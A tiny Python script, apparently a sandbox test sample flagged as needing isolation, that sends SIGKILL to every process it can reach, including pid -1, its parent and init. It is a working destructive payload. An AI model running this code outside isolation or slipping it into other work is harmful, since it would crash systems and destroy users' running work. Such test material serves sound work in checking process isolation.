"""Kills every process that it may."""

ABOUT = {"needs_isolation": True}

import os, signal

for pid in [-1, os.getppid(), 1, *range(2, 70000)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
